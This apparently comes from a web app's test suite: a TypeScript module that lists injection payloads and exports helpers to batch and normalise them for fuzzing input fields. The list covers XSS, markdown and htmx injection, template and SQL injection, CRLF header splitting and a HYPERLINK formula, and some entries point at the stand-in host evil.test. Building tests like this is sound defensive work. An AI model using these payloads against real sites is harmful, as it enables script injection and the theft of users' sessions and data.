import { someOf } from './runs.ts'
import { readNaughtyStrings } from './shared-data.ts'

/** Injection payloads: markup, scripts, links, attributes, templates, writing directions. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT >',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea></title></pre></option></select><script>alert(1)</script>',
  '</script><script>alert(1)//',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)>',
  '<form action="https://evil.test"><input name=form_token>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css"</style>',
  '<x hx-on:load="alert(1)" hx-get="/console/account" hx-trigger="load">',
  '" data-hx-get="https://evil.test" data-hx-trigger="load" x="',
  '" hx-on::after-request="alert(1)" x="',
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) x=`',
  ' onerror=alert(1) ',
  '" style="background:url(javascript:alert(1))" x="',
  'url(javascript:alert(1))',
  '}</style><script>alert(1)</script>',
  'expression(alert(1))',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '  javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.test/x',
  '/\\evil.test/x',
  'https://user:secret@evil.test/"onmouseover="alert(1)',
  'https://evil.test/<script>alert(1)</script>',
  '[click](javascript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](data:text/html,<script>alert(1)</script> "x")',
  '![x](javascript:alert(1)) ![y](https://evil.test/pixel.png)',
  '<javascript:alert(1)> <https://evil.test/auto>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://evil.test/" onmouseover="alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)} #{7*7} <%= 7*7 %> {% raw %}',
  'before\u2028after\u2029end',
  '\u202etxt.exe\u202c \u2066isolated',
  '\u200bzero\u200dwidth\ufeff',
  '\u0000nul \u0007bell \u001b[31mred \u0085next \u009bcsi',
  '\ud800 half of a pair \udc00',
  'line one\r\nSet-Cookie: taken=1\r\n\r\n<script>alert(1)</script>',
  '%0d%0aLocation:%20https://evil.test',
  '=HYPERLINK("https://evil.test","x")',
  '&lt;b&gt; &amp; &#0; &nbsp &notanentity;',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{fdfd} Ω≈ç√',
  'a/../../b?c=d&e=f#g;h',
  "'; DROP TABLE users; --",
  '__proto__',
  'constructor',
]

/** The payloads, then a share of the 515 naughty strings if they are available. */
export function listHostileTexts(from = 0): readonly string[] {
  return [...PAYLOADS, ...someOf(readNaughtyStrings(), from)]
}

/** Splits the texts into batches of this size. */
export function inParts<T>(all: readonly T[], size: number): readonly (readonly T[])[] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, index) =>
    all.slice(index * size, (index + 1) * size),
  )
}

/** Distinct texts without control characters and lone surrogates, which fields reject. */
export function toLines(texts: readonly string[], length: number): readonly string[] {
  const lines = texts.map((text) => {
    const line = text.replaceAll(/[\p{Cc}\p{Cs}\u2028\u2029]/gu, '').replaceAll('\ufffd', '')
    return [...line.normalize('NFC').trim().slice(0, length)]
      .filter((character) => !/\p{Cs}/u.test(character))
      .join('')
      .trim()
  })
  return [...new Set(lines)].filter((line) => line !== '')
}
